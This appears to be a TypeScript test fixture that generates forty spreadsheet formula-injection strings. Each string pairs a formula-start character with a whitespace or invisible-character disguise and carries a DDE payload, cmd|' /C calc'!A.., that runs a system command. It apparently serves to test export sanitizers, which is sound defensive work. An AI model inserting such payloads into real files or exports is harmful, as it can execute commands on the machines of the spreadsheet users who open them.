// Texts that a spreadsheet would take for a formula, with the disguises that are known to work.
const starts = ['=', '+', '-', '@', '＝', '＋', '－', '＠', '|', '%'];
const before = ['', ' ', '\t', '\r', '\u3000', '\u00a0\ufeff', '\u200b', '\n'];

/** Ten starts with four disguises each: forty. */
export const injections: readonly string[] = starts.flatMap((start, index) =>
  [0, 1, 2, 3].map((turn) => {
    const disguise = turn === 0 ? '' : (before[(index + turn * 2) % before.length] ?? '');
    return `${disguise}${start}cmd|' /C calc'!A${index}${turn}`;
  }),
);
